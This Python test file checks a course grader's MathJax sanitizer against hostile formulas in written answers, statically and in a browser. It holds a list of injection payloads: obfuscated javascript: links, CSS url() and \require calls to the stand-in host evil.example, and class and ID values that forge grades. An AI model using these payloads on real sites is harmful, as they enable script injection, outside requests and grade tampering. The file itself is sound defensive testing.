"""Attacks with MathJax commands in a written answer, also tested in a real browser."""

import html.parser
import json
import re

import pytest

from grader.course.lessons import all_lessons
from grader.lms.formula_sanitizer import COMMANDS, ZERO_WIDTH_SPACE, sanitize_formulas
from grader.lms.sanitizer import sanitize_markdown
from tests import browser
from tests.attacks.attack import with_attacks
from tests.prerequisites import MATHJAX

# The host named in the hostile commands, which a page must not contact.
HOSTILE_HOST = "evil.example"
HOSTILE_COMMANDS = {
    "a link": r"$\href{javascript:alert(1)}{x}$",
    "a link in a displayed formula": r"$$\href{javascript:alert(1)}{x}$$",
    "a link in brackets": r"\\[\href{javascript:alert(1)}{x}\\]",
    "a link in an environment": r"\begin{align}\href{javascript:alert(1)}{x}\end{align}",
    "a link in a text": r"$\text{$\href{javascript:alert(1)}{x}$}$",
    "a link after a backslash": r"$ \\href{javascript:alert(1)}{x} $",
    "a link across lines": "$\n\\href{javascript:alert(1)}{x}\n$",
    "a link in a formula without an end": r"$$ a $ \href{javascript:alert(1)}{x} $",
    "an entity for the backslash": r"$ &#92;href{javascript:alert(1)}{x} $",
    "a named entity": r"$ &bsol;href{javascript:alert(1)}{x} $",
    "an entity in the command's name": r"$ \le&#116; \h\hre&#102; \h{javascript:alert(1)}{x} $",
    "an entity with leading zeros": r"$ &#x0005C;href{javascript:alert(1)}{x} $",
    "an alias": r"$\let\x=\href \x{javascript:alert(1)}{x}$",
    "a definition": r"$\def\x{\href{javascript:alert(1)}}\x{y}$",
    "a new command": r"$\newcommand{\x}{\href{javascript:alert(1)}{y}}\x$",
    "a new environment": r"$\newenvironment{x}{\href{javascript:alert(1)}{y}}{}\begin{x}\end{x}$",
    "a new operator": r"$\DeclareMathOperator{\x}{\href{javascript:alert(1)}{y}}\x$",
    "a composed name": r"$\csname href\endcsname{javascript:alert(1)}{x}$",
    "an element": r'$\mmlToken{mi}[href="javascript:alert(1)"]{x}$',
    "a style": rf"$\style{{background:url(http://{HOSTILE_HOST}/style)}}{{x}}$",
    "a class": r"$\class{grade-correct}{x}$",
    "an ID": r"$\cssId{score}{x}$",
    "a box": rf"$\bbox[background:url(http://{HOSTILE_HOST}/box)]{{x}}$",
    "a colour": rf"$\color{{red;background:url(http://{HOSTILE_HOST}/color)}}{{x}}$",
    "a background": rf"$\colorbox{{url(http://{HOSTILE_HOST}/colorbox)}}{{x}}$",
    "a character code": r"$\unicode[url(x)]{x3c}$",
    "data": r"$\data{x=y}{z}$",
    "a custom environment": r"\begin{html}x\end{html}",
    "more commands": rf"$\require{{[http]//{HOSTILE_HOST}/require}}$",
    "a reference": r"$x\label{y}$ $\ref{y}$ $\eqref{y}$",
    "a black page": r"$\rule{99em}{99em}$",
    "a large distance": r"$\hspace{-99em}x$",
}
HARMLESS_FORMULAS = {
    "fractions": r"$\frac{a}{b} < \dfrac12$ and $$\sqrt[3]{x}$$",
    "a matrix": "$$\n\\begin{bmatrix} 1 & 2 \\\\ 3 & 4 \\end{bmatrix}\n$$",
    "rows that begin with letters": r"$\begin{matrix} ab \\ cd & ef \end{matrix}$",
    "an environment": "\\begin{align*}\na &= b \\\\[2pt]\nc &= d \\tag{1}\n\\end{align*}",
    "fonts and words": r"$\mathbf{x} \in \mathbb{R}^{n \times 3} \text{ for } \operatorname{rk}$",
    "in brackets": r"\\(\hat{n} \cdot \vec{p}\\) and \\[\lVert x \rVert_2\\]",
    "colours and spaces": r"$\color{red}{x} \quad \textcolor{#ff0000}{y} \hspace{1.5em} z$",
    "prices": r"It costs $5 or $6, and `C:\n`.",
    "text without a formula": "C:\\Users\\ada and \\def, \\foo and\n```\nprint('\\nTotal')\n```",
    "entities": "&lt; &amp; &#8594; &#x1F697;",
}


@with_attacks("text", HOSTILE_COMMANDS)
def test_unsafe_commands_are_removed(text):
    shown = sanitize_markdown(text)
    known = {*COMMANDS, "begin", "end", "color", "hspace"}
    assert {*re.findall(r"\\([A-Za-z]{2,})", shown)} <= known
    assert not re.search(r"\\(begin\{html|color\{red;|hspace\{-)|&(#92|bsol|#x0005C|#1)", shown)
    assert sanitize_markdown(shown) == shown


@with_attacks(
    "text", {name: text for name, text in HOSTILE_COMMANDS.items() if "entity" not in name}
)
def test_the_text_of_a_command_is_kept(text):
    shown = sanitize_markdown(text).replace(ZERO_WIDTH_SPACE, "")
    assert shown.replace("`", "").replace(" ", "") == text.replace(" ", "")


def test_unsafe_formulas_are_shown_as_code():
    """Unsafe formulas become code, unless programs disagree on where the formula ends."""
    differ = ("a link in a text", "a link after a backslash", "a link in a formula without an end")
    for name in (
        HOSTILE_COMMANDS.keys() - differ - {name for name in HOSTILE_COMMANDS if "entity" in name}
    ):
        assert "`" in sanitize_markdown(HOSTILE_COMMANDS[name]), name


@with_attacks("text", HARMLESS_FORMULAS)
def test_an_honest_formula_is_unchanged(text):
    assert sanitize_formulas(text) == text


@pytest.mark.parametrize("taught", all_lessons(), ids=lambda taught: taught.name)
def test_the_lessons_formulas_are_unchanged(taught):
    for path in (taught.solved, taught.released):
        for cell in json.loads(path.read_text("utf-8"))["cells"]:
            if cell["cell_type"] == "markdown":
                text = "".join(cell["source"])
                assert sanitize_formulas(text) == text


class _UnsafePartCollector(html.parser.HTMLParser):
    """Collects links, scripts and forged grades in a page that MathJax has rendered."""

    def __init__(self):
        super().__init__()
        self.found, self.code = [], ""
        self._within_code = False

    def handle_starttag(self, tag, attributes):
        self._within_code = tag == "code"
        for name, value in attributes:
            value = (value or "").lower()
            inner = tag == "use" and value.startswith("#mjx-")  # a glyph that MathJax draws
            if name in ("href", "xlink:href", "src", "data-href") and not inner:
                self.found.append((tag, name, value))
            if name.startswith("on") or (name == "style" and "url" in value):
                self.found.append((tag, name, value))
            if name in ("class", "id") and value in ("grade-correct", "score"):
                self.found.append((tag, name, value))

    def handle_endtag(self, tag):
        self._within_code = False

    def handle_data(self, data):
        self.code += data if self._within_code else ""


def render_in_browser(texts, entry, folder):
    """Render texts in a browser; return the page's dangerous parts, its code and its requests."""
    page, requests = browser.rendered_page(browser.page_of(texts, entry), folder, HOSTILE_HOST)
    reader = _UnsafePartCollector()
    reader.feed(page)
    assert "mjx" in page, "MathJax did not work"
    return reader.found, reader.code, requests


needs_browser = pytest.mark.skipif(
    not (browser.BROWSER and browser.mathjax_entries()),
    reason=MATHJAX,
)


@pytest.mark.slow
@needs_browser
@pytest.mark.parametrize("entry", browser.mathjax_entries())
def test_a_browser_executes_none_of_the_commands(entry, tmp_path):
    ours, _, _ = render_in_browser([*HARMLESS_FORMULAS.values()], entry, tmp_path / "ours")
    raw, _, requests = render_in_browser([*HOSTILE_COMMANDS.values()], entry, tmp_path / "raw")
    assert requests and len(set(raw) - set(ours)) > 2, "otherwise the test could not fail"
    found, code, requests = render_in_browser(
        [sanitize_markdown(text) for text in HOSTILE_COMMANDS.values()], entry, tmp_path
    )
    assert (set(found) - set(ours), requests) == (set(), [])
    assert r"\href{javascript:alert(1)}{x}" in code.replace(ZERO_WIDTH_SPACE, "")


@pytest.mark.proof
@needs_browser
@pytest.mark.parametrize("entry", browser.mathjax_entries())
def test_no_permitted_command_creates_a_link(entry, tmp_path):
    ours, _, _ = render_in_browser([*HARMLESS_FORMULAS.values()], entry, tmp_path / "ours")
    link = f"http://{HOSTILE_HOST}/command"
    texts = [
        rf"$\{name}{{{link}}}[{link}]{{\{name} javascript:alert(1)}}$" for name in sorted(COMMANDS)
    ]
    assert [sanitize_markdown(text).replace(ZERO_WIDTH_SPACE, "") for text in texts] == texts
    found, _, requests = render_in_browser(
        [sanitize_markdown(text) for text in texts], entry, tmp_path
    )
    assert (set(found) - set(ours), requests) == (set(), [])
